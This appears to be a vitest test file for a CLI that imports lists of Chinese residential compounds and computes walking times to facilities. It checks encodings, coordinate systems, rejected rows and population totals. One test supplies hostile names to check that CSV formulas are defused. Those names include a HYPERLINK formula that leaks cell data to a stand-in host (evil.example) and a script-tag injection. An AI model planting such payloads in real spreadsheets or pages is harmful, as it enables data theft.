/**
 * `quarter assess --compounds <file>`: a user's 小区 list replaces the region's estimated homes.
 * Krems (the bundled extract) stands in for a Chinese district: the lists are written here with
 * Chinese headers, in UTF-8 with BOM and in GBK, and their points are taken from the graph the
 * CLI exports (`quarter export`), so one 小区 sits exactly on a graph node and its walking time
 * can be checked against a plain Dijkstra written in the test (test/cli/helpers.ts).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { beforeAll, describe, expect, test } from 'vitest';
import { assess } from '../../src/assess/assess.js';
import { readRegion } from '../../src/region/region-file.js';
import {
  dijkstra,
  EXIT,
  expectFailure,
  expectOk,
  facilitySeeds,
  KREMS_PBF,
  loadExport,
  quarter,
  readCsv,
  scratch,
  type ExportedGraph,
} from '../cli/helpers.js';

const dir = scratch('compounds');
const regionFile = join(dir, 'krems.quarter');
const run = (...args: string[]) => quarter(['assess', '-r', regionFile, '--profile', 'mofcom-2021', '--h3', 'none', ...args], { cwd: dir });

/** persons per household for rows with only 户数 (data/residences defaults, Xuhui 2020). */
const HOUSEHOLD_SIZE = 2.36;
const CENTRE: [number, number] = [15.6001, 48.4098];

interface Issue {
  line: number;
  field: string;
  message: string;
}
interface ListSummary {
  file: string;
  encoding: string;
  crs: string;
  rowsRead: number;
  imported: number;
  rejected: Issue[];
  warnings: Issue[];
  population: number;
  converted: number;
  notes: string[];
}
interface JsonOut {
  headline: { residences: number; population: number };
  settings: { population: number | null };
  warnings: string[];
  compoundList: ListSummary;
}
interface AssessmentFile {
  residences: { count: number; formats: string[]; minutes: (number | null)[]; population: number[]; lon: number[]; lat: number[]; name: string[]; source: string[] };
  compoundList: ListSummary;
}

let graph: ExportedGraph;
/** graph nodes of the main network near the centre, at a location no other node shares; [0] is the one nearest the centre. */
let picks: number[];
const lonOf = (n: number): string => graph.nodes[n].lon;
const latOf = (n: number): string => graph.nodes[n].lat;
/** a point ~20–30 m off a node: near a real street, not on the graph. */
const near = (n: number): [string, string] => [(Number(lonOf(n)) + 0.0002).toFixed(7), (Number(latOf(n)) + 0.0001).toFixed(7)];

beforeAll(() => {
  expectOk(quarter(['import', KREMS_PBF, '-o', regionFile], { cwd: dir }));
  expectOk(quarter(['export', '-r', regionFile, '-o', 'csv'], { cwd: dir }));
  graph = loadExport(join(dir, 'csv'));
  const seen = new Map<string, number>();
  for (const n of graph.nodes) seen.set(`${n.lon},${n.lat}`, (seen.get(`${n.lon},${n.lat}`) ?? 0) + 1);
  const d2 = (n: { lon: string; lat: string }) => ((Number(n.lon) - CENTRE[0]) * 0.66) ** 2 + (Number(n.lat) - CENTRE[1]) ** 2;
  picks = graph.nodes
    .map((n, i) => ({ n, i }))
    .filter(({ n, i }) => graph.adj[i].length > 0 && n.component === 0 && seen.get(`${n.lon},${n.lat}`) === 1 && d2(n) < 0.015 ** 2)
    .sort((a, b) => d2(a.n) - d2(b.n))
    .map(({ i }) => i);
  expect(picks.length).toBeGreaterThan(40);
});

/** The Krems list: lines 2–9 of the file (header = line 1). */
function kremsRows(): { csv: string; accepted: number[]; population: number } {
  const [a, b, c, d] = [picks[8], picks[16], picks[24], picks[32]];
  const rows = [
    ['小区名称', '户数', '人口', '经度', '纬度'],
    ['老城小区', '', '1200', lonOf(picks[0]), latOf(picks[0])], // 2: exactly on a graph node
    ['施泰因花园', '350', '', ...near(a)], // 3: only 户数
    ['多瑙河畔', '', '2400', ...near(b)], // 4
    ['经纬颠倒', '', '800', near(c)[1], near(c)[0]], // 5: lon and lat swapped
    ['葡萄园小区', '', '900', ...near(c)], // 6
    ['维也纳', '', '700', '16.3738', '48.2082'], // 7: outside the region
    ['人口不详', '', '约三百人', ...near(d)], // 8: 人口 not a number
    ['学院新村', '600', '1500', ...near(d)], // 9: 人口 wins over 户数
  ];
  return {
    csv: rows.map((r) => r.join(',')).join('\r\n') + '\r\n',
    accepted: [2, 3, 4, 6, 9],
    population: 1200 + 350 * HOUSEHOLD_SIZE + 2400 + 900 + 1500,
  };
}

function writeList(name: string, bytes: Uint8Array | string): string {
  const file = join(dir, name);
  writeFileSync(file, bytes);
  return file;
}

function checkKremsSummary(s: ListSummary, population: number): void {
  expect(s.rowsRead).toBe(8);
  expect(s.imported).toBe(5);
  expect(s.imported + s.rejected.length).toBe(s.rowsRead);
  expect(s.rejected.map((r) => [r.line, r.field])).toEqual([
    [5, '纬度'],
    [7, '经度'],
    [8, '人口'],
  ]);
  expect(s.rejected[0].message).toMatch(/looks swapped/);
  expect(s.rejected[1].message).toMatch(/16\.3738, 48\.2082 .*outside the region/);
  expect(s.rejected[2].message).toMatch(/"约三百人" is not a number/);
  expect(s.population).toBeCloseTo(population, 1);
  expect(s.notes.join('\n')).toMatch(/reached from their given point/);
}

describe('quarter assess --compounds', () => {
  test('UTF-8 BOM list: counts, line numbers, population = the accepted rows; a pharmacy time agrees with Dijkstra', () => {
    const list = kremsRows();
    const file = writeList('krems-小区.csv', '\uFEFF' + list.csv);

    const text = run('--compounds', file);
    expectOk(text);
    expect(text.stdout).toMatch(/compound list krems-小区\.csv: 8 rows read, 5 imported, 3 rejected \(CSV, utf-8-bom, WGS-84\)/);
    expect(text.stdout).toMatch(/rejected line 5 \(纬度\): looks swapped/);
    expect(text.stdout).toMatch(/rejected line 7 \(经度\): .*outside the region/);
    expect(text.stdout).toMatch(/rejected line 8 \(人口\): .*"约三百人" is not a number/);
    expect(text.stdout).toMatch(/ 5 homes 住所, 6,826 residents 居民 \(\d[\d,]* aged 65\+; as in the 小区 list\)/);

    const out = join(dir, 'out-utf8');
    const r = run('--compounds', file, '--json', '--out', out);
    expectOk(r);
    const j = JSON.parse(r.stdout) as JsonOut;
    checkKremsSummary(j.compoundList, list.population);
    expect(j.compoundList.encoding).toBe('utf-8-bom');
    expect(j.headline.residences).toBe(5);
    expect(j.headline.population).toBeCloseTo(list.population, 1);
    expect(j.settings.population).toBeNull();

    const a = JSON.parse(readFileSync(join(out, 'assessment.json'), 'utf8')) as AssessmentFile;
    expect(a.residences.source).toEqual(list.accepted.map((l) => `row/${l}`));
    expect(a.residences.name).toEqual(['老城小区', '施泰因花园', '多瑙河畔', '葡萄园小区', '学院新村']);
    expect(a.residences.population.reduce((x, y) => x + y, 0)).toBeCloseTo(list.population, 1);
    expect(a.residences.population[1]).toBeCloseTo(350 * HOUSEHOLD_SIZE, 2);
    expect(a.compoundList.rejected).toHaveLength(3);

    // 老城小区 sits on node picks[0]: the access leg is 0, so its time is the node's
    const node = picks[0];
    expect([a.residences.lon[0], a.residences.lat[0]]).toEqual([Number(lonOf(node)), Number(latOf(node))]);
    const pharmacies = graph.facilities.filter((f) => f.format === 'pharmacy');
    expect(pharmacies.length).toBeGreaterThan(0);
    const dist = dijkstra(graph.adj, pharmacies.flatMap(facilitySeeds));
    const expected = dist[node] / 60;
    expect(Number.isFinite(expected) && expected > 0).toBe(true);
    const F = a.residences.formats.length;
    const got = a.residences.minutes[0 * F + a.residences.formats.indexOf('pharmacy')];
    expect(got).not.toBeNull();
    expect(Math.abs((got as number) - expected), `CLI ${got} vs Dijkstra ${expected}`).toBeLessThanOrEqual(0.01);
  });

  test('the same list in GBK (Chinese Excel) gives the same result', () => {
    const list = kremsRows();
    const utf8 = run('--compounds', writeList('utf8.csv', '\uFEFF' + list.csv), '--json');
    const gbk = run('--compounds', writeList('gbk.csv', iconv.encode(list.csv, 'gbk')), '--json');
    expectOk(utf8);
    expectOk(gbk);
    const u = JSON.parse(utf8.stdout) as JsonOut;
    const g = JSON.parse(gbk.stdout) as JsonOut;
    expect(g.compoundList.encoding).toBe('gbk');
    checkKremsSummary(g.compoundList, list.population);
    expect(g.compoundList.rejected).toEqual(u.compoundList.rejected);
    expect(g.headline).toEqual(u.headline);
  });

  test('a GCJ-02 claim on Krems (outside China) leaves the points unchanged', () => {
    const list = kremsRows();
    const file = writeList('gcj.csv', '\uFEFF' + list.csv);
    const w = run('--compounds', file, '--json', '--out', join(dir, 'out-wgs'));
    const g = run('--compounds', file, '--compounds-crs', 'gcj02', '--json', '--out', join(dir, 'out-gcj'));
    expectOk(w);
    expectOk(g);
    const gs = JSON.parse(g.stdout) as JsonOut;
    expect(gs.compoundList.crs).toBe('gcj02');
    checkKremsSummary(gs.compoundList, list.population);
    expect(gs.compoundList.notes.join('\n')).toMatch(/only inside China: .* unchanged/);
    expect(gs.headline).toEqual((JSON.parse(w.stdout) as JsonOut).headline);
    const aw = JSON.parse(readFileSync(join(dir, 'out-wgs', 'assessment.json'), 'utf8')) as AssessmentFile;
    const ag = JSON.parse(readFileSync(join(dir, 'out-gcj', 'assessment.json'), 'utf8')) as AssessmentFile;
    expect(ag.residences.lon).toEqual(aw.residences.lon);
    expect(ag.residences.lat).toEqual(aw.residences.lat);
    expect(ag.residences.minutes).toEqual(aw.residences.minutes);
  });

  test('hostile names survive into residences.csv (--out)', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
      '+86 13800000000',
      '-1栋',
      '@SUM(A1:A9)',
      '"引号"小区, 逗号',
      '多行\n名称\r\n第三行',
      "<script>alert('x')</script> & 小区",
      '😀 表情小区',
      '\u202E反转小区',
      'a;b\tc',
    ];
    const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
    const lines = ['小区名称,人口,经度,纬度', ...names.map((n, k) => `${quote(n)},${100 + k},${lonOf(picks[k + 1])},${latOf(picks[k + 1])}`)];
    const file = writeList('hostile.csv', '\uFEFF' + lines.join('\r\n') + '\r\n');
    const out = join(dir, 'out-hostile');
    const r = run('--compounds', file, '--out', out, '--json');
    expectOk(r);
    const s = (JSON.parse(r.stdout) as JsonOut).compoundList;
    expect([s.rowsRead, s.imported, s.rejected.length]).toEqual([names.length, names.length, 0]);
    const csv = readCsv(join(out, 'residences.csv'));
    expect(csv.bom).toBe(true);
    // formulas are defused with a leading apostrophe; otherwise the name is as written
    expect(csv.rows.map((row) => row.name.replace(/^'(?=[=+\-@\t\r])/, ''))).toEqual(names);
    expect(csv.rows.map((row) => row.name)).toContain(`'${names[0]}`);
    expect(csv.rows.map((row) => Number(row.population))).toEqual(names.map((_, k) => 100 + k));
    // a name spanning lines moves the next rows' line numbers: sources follow the file
    expect(csv.rows.map((row) => row.source)).toEqual(['row/2', 'row/3', 'row/4', 'row/5', 'row/6', 'row/7', 'row/10', 'row/11', 'row/12', 'row/13']);
  });

  test('--population spreads a total over the list in proportion to its population, with a warning', () => {
    const list = kremsRows();
    const r = run('--compounds', writeList('spread.csv', '\uFEFF' + list.csv), '--population', '13652', '--json', '--out', join(dir, 'out-spread'));
    expectOk(r);
    const j = JSON.parse(r.stdout) as JsonOut;
    expect(j.headline.population).toBeCloseTo(13652, 0);
    expect(j.warnings.join('\n')).toMatch(/total population 13652 replaces the list's 6826: spread over its 5 小区/);
    const a = JSON.parse(readFileSync(join(dir, 'out-spread', 'assessment.json'), 'utf8')) as AssessmentFile;
    const listed = [1200, 350 * HOUSEHOLD_SIZE, 2400, 900, 1500];
    a.residences.population.forEach((p, k) => expect(p).toBeCloseTo(listed[k] * 2, 0));
  });

  test('more than 10 rejections: the first 10 in the text, all in --json', () => {
    const rows = ['小区名称,人口,经度,纬度', `好小区,500,${lonOf(picks[0])},${latOf(picks[0])}`];
    for (let k = 0; k < 13; k++) rows.push(`远处${k},100,${(16.3 + k * 0.01).toFixed(2)},48.2`);
    const file = writeList('many.csv', rows.join('\n') + '\n');
    const text = run('--compounds', file);
    expectOk(text);
    expect(text.stdout).toMatch(/14 rows read, 1 imported, 13 rejected/);
    expect(text.stdout.match(/rejected line \d+/g)).toEqual(Array.from({ length: 10 }, (_, k) => `rejected line ${k + 3}`));
    expect(text.stdout).toMatch(/… and 3 more rejected rows \(--json lists them all\)/);
    const j = JSON.parse(run('--compounds', file, '--json').stdout) as JsonOut;
    expect(j.compoundList.rejected.map((x) => x.line)).toEqual(Array.from({ length: 13 }, (_, k) => k + 3));
  });

  test('failures: every row rejected → exit 3, one line; bad flags → exit 2', () => {
    const all = writeList('all-out.csv', '\uFEFF小区名称,人口,经度,纬度\n甲,100,16.37,48.20\n乙,200,abc,48.41\n');
    expectFailure(run('--compounds', all), EXIT.input, /all-out\.csv: all 2 rows rejected \(first: line 2, .*outside the region/);
    expectFailure(run('--compounds', join(dir, 'missing.csv')), EXIT.input, /missing\.csv: cannot read/);
    expectFailure(run('--compounds', writeList('nocols.csv', 'a,b\n1,2\n')), EXIT.input, /nocols\.csv: no column for 经度\/lon/);
    expectFailure(run('--compounds', all, '--compounds-crs', 'mars'), EXIT.usage, /--compounds-crs: "mars" is not a coordinate system/);
    expectFailure(run('--compounds-crs', 'gcj02'), EXIT.usage, /--compounds-crs: only with --compounds/);
  });

  test('assess() in process: the loaded region is left as it was', () => {
    const region = readRegion(regionFile);
    const before = region.residences;
    const file = writeList('api.csv', '\uFEFF' + kremsRows().csv);
    const result = assess(region, { profile: 'mofcom-2021', compounds: { file, crs: 'wgs84' }, h3Resolutions: [] });
    expect(region.residences).toBe(before);
    expect(region.residences.count).toBeGreaterThan(900);
    expect(result.compoundList?.region).not.toBe(region);
    expect(result.compoundList?.region.graph).toBe(region.graph);
    expect(result.residences.count).toBe(5);
    expect(result.compoundList?.summary.imported).toBe(5);
  });
});
